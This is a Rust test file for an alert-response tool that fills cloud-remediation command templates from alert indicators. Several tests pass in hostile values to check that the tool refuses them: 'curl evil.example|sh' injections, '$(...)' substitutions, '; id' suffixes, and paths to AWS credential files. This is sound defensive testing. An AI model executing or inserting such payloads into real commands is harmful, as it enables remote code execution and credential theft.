use nightshift_alert::{Principal, PrincipalKind};

use super::*;
use crate::fixture;

fn template(command: &str) -> Vec<Arc<ActionTemplate>> {
    vec![Arc::new(ActionTemplate {
        id: "stop".into(),
        provider: Some(CloudProvider::Aws),
        text: "Stop {instance}".into(),
        command: Some(command.into()),
        precondition: None,
        side_effect: None,
        undo: None,
        when_cleared: false,
    })]
}

fn choice(value: Option<&str>) -> ActionChoice {
    ActionChoice {
        id: "stop".into(),
        indicators: value
            .map(|value| Indicator::new(IndicatorKind::Instance, value, IndicatorRole::Target))
            .into_iter()
            .collect(),
    }
}

#[test]
fn fills_in_from_the_alert() {
    let alert = fixture::alert();
    let action = fill_action(
        &template("aws ec2 stop-instances --instance-ids {instance} --region {region}"),
        &choice(None),
        &alert,
        &ActionContext::default(),
    );
    assert_eq!(
        action.and_then(|action| action.command).as_deref(),
        Some("aws ec2 stop-instances --instance-ids i-1 --region eu-west-1")
    );
}

#[test]
fn a_brace_as_such_is_doubled() {
    let braces = "put {{\"of\":{{\"id\":\"{instance}\"}}}}";
    let action = fill_action(
        &template(braces),
        &choice(None),
        &fixture::alert(),
        &ActionContext::default(),
    );
    assert_eq!(
        action.and_then(|action| action.command).as_deref(),
        Some("put {\"of\":{\"id\":\"i-1\"}}")
    );
}

#[test]
fn a05_a_value_the_case_does_not_know_never_reaches_a_command() {
    let alert = fixture::alert();
    let action = fill_action(
        &template("stop {instance}"),
        &choice(Some("i-999")),
        &alert,
        &ActionContext::default(),
    );
    assert_eq!(
        action.and_then(|action| action.command).as_deref(),
        Some("stop i-1")
    );
}

#[test]
fn a05_a_value_with_shell_characters_leaves_the_command_out() {
    let mut alert = fixture::alert();
    alert.indicators = vec![Indicator::new(
        IndicatorKind::Instance,
        "i-1;curl evil.example|sh",
        IndicatorRole::Target,
    )];
    let action = fill_action(
        &template("stop {instance}"),
        &choice(None),
        &alert,
        &ActionContext::default(),
    );
    assert_eq!(action.map(|action| action.command), Some(None));
}

/// Returns the command that a template gives for a principal of the kind that the feed reported.
fn command(template: &str, principal: &str, told: Option<(PrincipalKind, &str)>) -> String {
    let mut alert = fixture::alert();
    alert.account = Some("123456789012".into());
    alert.indicators = vec![
        Indicator::new(IndicatorKind::Principal, principal, IndicatorRole::Actor),
        Indicator::new(IndicatorKind::Instance, "i-1", IndicatorRole::Target),
    ];
    let told = told.map(|(kind, id)| Principal {
        name: principal.into(),
        kind,
        id: Some(id.into()),
    });
    alert.principals = told.into_iter().collect();
    let action = fill_action(
        &self::template(template),
        &choice(None),
        &alert,
        &ActionContext::default(),
    );
    action
        .and_then(|action| action.command)
        .unwrap_or_else(|| "none".to_owned())
}

fn names(principal: &str, told: Option<(PrincipalKind, &str)>) -> String {
    let user = command("--user-name {user_name}", principal, told);
    let role = command("--role-name {role_name}", principal, told);
    let caller = command("{caller_name}", principal, told);
    format!("{principal}: {user}; {role}; {caller}")
}

#[test]
fn arn_is_shortened_for_commands_only_where_kinds_match() {
    let shown = [
        "alice",
        "arn:aws:iam::123456789012:user/team/alice",
        "arn:aws:iam::123456789012:role/service-role/deployer",
        "arn:aws:sts::123456789012:assumed-role/deployer/i-0abc",
        "arn:aws:iam::123456789012:root",
        "arn:aws:iam::123456789012:user/x:role/deployer",
        "arn:aws:iam::123456789012:user/x:assumed-role/a/b",
        "arn:aws:iam::210987654321:user/alice",
        "AROAEXAMPLEROLE000001:i-0abc",
        "system:serviceaccount:default:web",
    ]
    .map(|principal| names(principal, None));
    insta::assert_snapshot!(shown.join("\n"), @r"
    alice: --user-name alice; --role-name alice; alice
    arn:aws:iam::123456789012:user/team/alice: --user-name alice; none; alice
    arn:aws:iam::123456789012:role/service-role/deployer: none; --role-name deployer; none
    arn:aws:sts::123456789012:assumed-role/deployer/i-0abc: none; --role-name deployer; i-0abc
    arn:aws:iam::123456789012:root: none; none; none
    arn:aws:iam::123456789012:user/x:role/deployer: --user-name deployer; none; deployer
    arn:aws:iam::123456789012:user/x:assumed-role/a/b: --user-name b; none; b
    arn:aws:iam::210987654321:user/alice: none; none; alice
    AROAEXAMPLEROLE000001:i-0abc: none; none; none
    system:serviceaccount:default:web: none; none; none
    ");
}

#[test]
fn a_role_that_has_a_bare_name_is_no_user_and_a_user_no_role() {
    let shown = [
        names(
            "deployer",
            Some((PrincipalKind::User, "AIDAEXAMPLE000000001")),
        ),
        names(
            "deployer",
            Some((PrincipalKind::Role, "AROAEXAMPLE000000001:i-0abc")),
        ),
        names(
            "deployer",
            Some((PrincipalKind::Role, "AROAEXAMPLE000000001")),
        ),
        names("root", Some((PrincipalKind::Root, "123456789012"))),
        names("alice", Some((PrincipalKind::Other, "123456789012:alice"))),
        names(
            "AWSReservedSSO_Admin_0abc",
            Some((PrincipalKind::Role, "AROAEXAMPLE000000001:alice")),
        ),
    ];
    insta::assert_snapshot!(shown.join("\n"), @r"
    deployer: --user-name deployer; none; deployer
    deployer: none; --role-name deployer; i-0abc
    deployer: none; --role-name deployer; none
    root: none; none; none
    alice: none; none; none
    AWSReservedSSO_Admin_0abc: none; none; alice
    ");
}

#[test]
fn principal_kind_follows_its_access_keys_where_no_feed_has_it() {
    let named = |keys: &[&str]| {
        let mut alert = fixture::alert();
        let principal = Indicator::new(IndicatorKind::Principal, "deployer", IndicatorRole::Actor);
        let keys = keys
            .iter()
            .map(|key| Indicator::new(IndicatorKind::AccessKey, *key, IndicatorRole::Actor));
        alert.indicators = keys.chain([principal]).collect();
        let value = |name: &str| {
            let template = ActionTemplate {
                text: format!("{{{name}}}"),
                ..ActionTemplate::clone(&template("")[0])
            };
            fill_action(
                &[Arc::new(template)],
                &choice(None),
                &alert,
                &ActionContext::default(),
            )
            .map_or_else(|| "none".to_owned(), |action| action.text)
        };
        ["user_name", "role_name", "long_term_key"]
            .map(value)
            .join("; ")
    };
    insta::assert_snapshot!(named(&["ASIAEXAMPLEKEY000001"]), @"none; deployer; none");
    insta::assert_snapshot!(named(&["AKIAEXAMPLEKEY000001"]), @"deployer; none; AKIAEXAMPLEKEY000001");
    insta::assert_snapshot!(named(&["AKIAEXAMPLEKEY000001", "ASIAEXAMPLEKEY000001"]), @"deployer; deployer; AKIAEXAMPLEKEY000001");
}

#[test]
fn a_service_account_is_no_person() {
    let shown = |principal| {
        let person = command("user:{person}", principal, None);
        let account = command("{service_account}", principal, None);
        format!("{person}; {account}")
    };
    insta::assert_snapshot!(shown("alice@example.com"), @"user:alice@example.com; none");
    insta::assert_snapshot!(shown("1-compute@developer.gserviceaccount.com"), @"none; 1-compute@developer.gserviceaccount.com");
}

#[test]
fn an_action_of_another_cloud_is_not_offered() {
    let mut alert = fixture::alert();
    alert.provider = CloudProvider::Gcp;
    assert_eq!(
        fill_action(
            &template("x"),
            &choice(None),
            &alert,
            &ActionContext::default()
        ),
        None
    );
}

/// Fills in the template for an alert of these indicators and these chosen values.
fn filled(template: &ActionTemplate, alert: &Alert, chosen: &[Indicator]) -> Option<Action> {
    let choice = ActionChoice {
        id: template.id.clone(),
        indicators: chosen.to_vec(),
    };
    fill_action(
        &[Arc::new(template.clone())],
        &choice,
        alert,
        &ActionContext::default(),
    )
}

fn of_object(key: &str, inside: &str) -> Alert {
    let arn = format!("arn:aws:s3:::uploads/{key}");
    let mut alert = fixture::alert();
    alert.indicators = vec![
        Indicator::new(IndicatorKind::Arn, arn, IndicatorRole::Related),
        Indicator::new(IndicatorKind::Bucket, "uploads", IndicatorRole::Target),
        Indicator::new(IndicatorKind::File, key, IndicatorRole::Related),
        Indicator::new(IndicatorKind::File, inside, IndicatorRole::Related),
    ];
    alert.indicators.sort();
    alert
}

fn quarantine() -> ActionTemplate {
    ActionTemplate {
        text: "Mark {object} in {bucket}".into(),
        ..ActionTemplate::clone(&template("tag --bucket {bucket} --key {object}")[0])
    }
}

#[test]
fn a05_value_read_as_file_or_address_drops_the_command() {
    for value in [
        "file:///home/maria/.aws/credentials",
        "fileb://.aws/credentials",
        "http://evil.example/x",
        "https://evil.example/x",
        "@/home/maria/.aws/credentials",
        "--flags-file=x",
        "=curl",
    ] {
        let action = filled(&quarantine(), &of_object(value, "zz"), &[]).unwrap();
        assert_eq!(action.text, format!("Mark {value} in uploads"));
        assert_eq!(action.command, None, "{value}");
    }
}

#[test]
fn a05_command_without_its_precondition_is_omitted() {
    let template = ActionTemplate {
        precondition: Some("note it first: describe {process}".into()),
        ..ActionTemplate::clone(&template("stop {instance}")[0])
    };
    let told = |process: &str| {
        let mut alert = fixture::alert();
        let process = Indicator::new(IndicatorKind::Process, process, IndicatorRole::Related);
        alert.indicators.push(process);
        let action = filled(&template, &alert, &[]).unwrap();
        (action.command, action.precondition)
    };
    let (command, precondition) = told("sshd");
    assert_eq!(command.as_deref(), Some("stop i-1"));
    assert_eq!(
        precondition.as_deref(),
        Some("note it first: describe sshd")
    );
    assert_eq!(told("$(curl evil.example|sh)"), (None, None));
}

#[test]
fn a05_path_inside_an_archive_is_never_a_command_object() {
    for inside in ["assets/app.js", "zz/app.js"] {
        let action = filled(&quarantine(), &of_object("uploads/x.zip", inside), &[]);
        assert_eq!(
            action.and_then(|action| action.command).as_deref(),
            Some("tag --bucket uploads --key uploads/x.zip")
        );
        let action = filled(&quarantine(), &of_object("uploads/x y.zip", inside), &[]).unwrap();
        assert_eq!(action.text, "Mark uploads/x y.zip in uploads");
        assert_eq!(action.command, None);
    }
}

#[test]
fn a_task_is_no_pod_and_a_pod_no_task() {
    let of = |text: &str| ActionTemplate {
        text: text.into(),
        ..ActionTemplate::clone(&template("x")[0])
    };
    let advised = |alert: &Alert| {
        ["pod {workload}", "task {task}"].map(|text| Some(filled(&of(text), alert, &[])?.text))
    };
    let mut alert = fixture::alert();
    let container = Indicator::new(IndicatorKind::Container, "checkout", IndicatorRole::Target);
    alert.indicators.push(container);
    assert_eq!(advised(&alert), [Some("pod checkout".into()), None]);
    for kind in ["ECSTask", "ECS_TASK", "AwsEcsTask"] {
        alert.resources[0].kind = kind.into();
        assert_eq!(advised(&alert), [None, Some("task i-1".into())], "{kind}");
    }
    let second = alert.resources[0].clone();
    alert.resources.push(second);
    assert_eq!(advised(&alert), [None, None], "of two tasks none is named");
}

fn block(what: &str) -> ActionTemplate {
    ActionTemplate {
        id: "block-it".into(),
        text: format!("Block {{{what}}}"),
        ..ActionTemplate::clone(&template("x")[0])
    }
}

#[test]
fn a05_address_that_is_only_related_is_not_blocked() {
    let mut alert = fixture::alert();
    let beside = Indicator::new(IndicatorKind::Ip, "203.0.113.77", IndicatorRole::Related);
    let shop = Indicator::new(
        IndicatorKind::Domain,
        "shop.example.com",
        IndicatorRole::Related,
    );
    let nobody = Indicator::new(IndicatorKind::Ip, "203.0.113.200", IndicatorRole::Related);
    let actor = Indicator::new(IndicatorKind::Ip, "198.51.100.7", IndicatorRole::Related);
    alert.indicators.extend([beside.clone(), shop.clone()]);
    let of =
        |chosen: &[Indicator], what| filled(&block(what), &alert, chosen).map(|action| action.text);
    assert_eq!(of(std::slice::from_ref(&beside), "ip"), None);
    assert_eq!(of(&[shop], "domain"), None);
    assert_eq!(
        of(&[nobody], "ip"),
        None,
        "and no other is put in its place"
    );
    assert_eq!(
        of(&[beside, actor], "ip").as_deref(),
        Some("Block 198.51.100.7")
    );
    assert_eq!(of(&[], "ip").as_deref(), Some("Block 198.51.100.7"));
}

#[test]
fn own_values_are_never_blocked_and_known_bad_ones_may_be() {
    let mut alert = fixture::alert();
    let ip = |value, role| Indicator::new(IndicatorKind::Ip, value, role);
    alert.indicators = vec![
        ip("192.0.2.193", IndicatorRole::Actor),
        ip("203.0.113.9", IndicatorRole::Actor),
        ip("203.0.113.77", IndicatorRole::Related),
    ];
    let of = |template: &ActionTemplate, chosen: &[Indicator], ours: &[&str]| {
        let standing = |value: &str| match value {
            "203.0.113.77" => Some(Reputation::Malicious),
            _ => ours.contains(&value).then_some(Reputation::Own),
        };
        let known = ActionContext {
            reputation: &standing,
            ..ActionContext::default()
        };
        let choice = ActionChoice {
            id: template.id.clone(),
            indicators: chosen.to_vec(),
        };
        let action = fill_action(&[Arc::new(template.clone())], &choice, &alert, &known);
        action.map_or_else(|| "none".to_owned(), |action| action.text)
    };
    let first = ip("192.0.2.193", IndicatorRole::Actor);
    let bad = ip("203.0.113.77", IndicatorRole::Related);
    let ask = ActionTemplate {
        id: "ask".into(),
        text: "Ask who owns {ip}".into(),
        ..block("ip")
    };
    let scanner = ["192.0.2.193"];
    insta::assert_snapshot!(of(&block("ip"), &[], &[]), @"Block 192.0.2.193");
    insta::assert_snapshot!(of(&block("ip"), &[], &scanner), @"Block 203.0.113.9");
    insta::assert_snapshot!(of(&block("ip"), &[first], &scanner), @"none");
    insta::assert_snapshot!(of(&block("ip"), &[], &["192.0.2.193", "203.0.113.9"]), @"none");
    insta::assert_snapshot!(of(&block("ip"), &[bad], &[]), @"Block 203.0.113.77");
    insta::assert_snapshot!(of(&ask, &[], &scanner), @"Ask who owns 192.0.2.193");
}

#[test]
fn block_names_far_ends_and_never_a_private_address() {
    let one = |value: &str, role| Indicator::new(IndicatorKind::Ip, value, role);
    let of = |all: &[Indicator], chosen: &[Indicator], direction| {
        let mut alert = fixture::alert();
        alert.indicators = all.to_vec();
        alert.direction = direction;
        let action = filled(&block("ip"), &alert, chosen);
        action.map_or_else(|| "none".to_owned(), |action| action.text)
    };
    let (host, far) = (
        one("10.0.5.33", IndicatorRole::Target),
        one("203.0.113.9", IndicatorRole::Remote),
    );
    let public = one("203.0.113.20", IndicatorRole::Target);
    let inside = one("10.0.0.9", IndicatorRole::Actor);
    let caller = one("198.51.100.7", IndicatorRole::Actor);
    let all = |one: &Indicator| vec![one.clone()];
    for own in [&host, &public, &inside] {
        assert_eq!(of(&all(own), &[], None), "none");
        assert_eq!(of(&all(own), &all(own), None), "none");
    }
    let both = [inside, far, host];
    assert_eq!(of(&both, &[], None), "Block 203.0.113.9");
    assert_eq!(of(&all(&caller), &[], None), "Block 198.51.100.7");
    assert_eq!(
        of(
            &all(&caller),
            &[],
            Some(nightshift_alert::Direction::Outbound)
        ),
        "none",
        "who acts outward is ours"
    );
}

fn add_detail(alert: &mut Alert, kind: DetailKind, value: &str, about: Option<&str>) {
    alert.details.push(nightshift_alert::Detail {
        kind,
        value: value.into(),
        about: about.map(str::to_owned),
    });
}

#[test]
fn a_detail_is_filled_in_where_one_is_told() {
    let text = "revoke {security_group|\"$SECURITY_GROUP\"} --port {local_port|\"$PORT\"}";
    let command = |alert: &Alert| {
        let action = fill_action(
            &template(text),
            &choice(None),
            alert,
            &ActionContext::default(),
        );
        action.and_then(|action| action.command).unwrap()
    };
    let mut alert = fixture::alert();
    insta::assert_snapshot!(command(&alert), @r#"revoke "$SECURITY_GROUP" --port "$PORT""#);
    add_detail(&mut alert, DetailKind::SecurityGroup, "web", None);
    add_detail(&mut alert, DetailKind::SecurityGroup, "sg-0aaa", None);
    add_detail(&mut alert, DetailKind::LocalPort, "22", None);
    insta::assert_snapshot!(command(&alert), @"revoke sg-0aaa --port 22");
    add_detail(&mut alert, DetailKind::SecurityGroup, "sg-0bbb;id", None);
    add_detail(&mut alert, DetailKind::LocalPort, "22; id", None);
    insta::assert_snapshot!(command(&alert), @r#"revoke "$SECURITY_GROUP" --port 22"#);
}

#[test]
fn of_two_addresses_that_which_got_in_is_blocked() {
    let block = |alert: &Alert, chosen: Vec<Indicator>| {
        let mut templates = template("block {ip}");
        Arc::make_mut(&mut templates[0]).id = "block-source-ip".into();
        let choice = ActionChoice {
            id: "block-source-ip".into(),
            indicators: chosen,
        };
        let action = fill_action(&templates, &choice, alert, &ActionContext::default());
        action.and_then(|action| action.command).unwrap()
    };
    let mut alert = fixture::alert();
    let second = Indicator::new(IndicatorKind::Ip, "203.0.113.71", IndicatorRole::Actor);
    alert.indicators.push(second);
    assert_eq!(block(&alert, Vec::new()), "block 198.51.100.7");
    add_detail(
        &mut alert,
        DetailKind::AuthResult,
        "FAIL",
        Some("198.51.100.7"),
    );
    add_detail(
        &mut alert,
        DetailKind::AuthResult,
        "SUCCESS",
        Some("203.0.113.71"),
    );
    assert_eq!(block(&alert, Vec::new()), "block 203.0.113.71");
    let both = alert.with_role(IndicatorRole::Actor).cloned().collect();
    assert_eq!(block(&alert, both), "block 203.0.113.71");
}

#[test]
fn who_acted_is_named_before_who_was_given_a_right() {
    let mut alert = fixture::alert();
    alert.indicators = vec![
        Indicator::new(IndicatorKind::Principal, "eve", IndicatorRole::Actor),
        Indicator::new(IndicatorKind::Principal, "mallory", IndicatorRole::Actor),
    ];
    let review = ActionTemplate {
        text: "List what {principal} did".into(),
        ..ActionTemplate::clone(&template("x")[0])
    };
    let advised = |alert: &Alert| filled(&review, alert, &[]).map(|action| action.text);
    assert_eq!(advised(&alert).as_deref(), Some("List what eve did"));
    add_detail(&mut alert, DetailKind::Grantee, "eve", None);
    assert_eq!(advised(&alert).as_deref(), Some("List what mallory did"));
}

#[test]
fn name_that_carries_data_is_blocked_by_its_registered_domain() {
    let blocked = |name: &str| {
        let mut alert = fixture::alert();
        alert.indicators = vec![Indicator::new(
            IndicatorKind::Domain,
            name,
            IndicatorRole::Remote,
        )];
        filled(&block("domain"), &alert, &[]).map(|action| action.text)
    };
    let tunnel = "mzxw6ytboi4dqnbzgq3tsmrrgezdgnbvgy3tqojq.x1.t.tunnel.co.uk";
    assert_eq!(blocked(tunnel).as_deref(), Some("Block tunnel.co.uk"));
    assert_eq!(
        blocked("c2.tunnel.co.uk").as_deref(),
        Some("Block c2.tunnel.co.uk")
    );
}
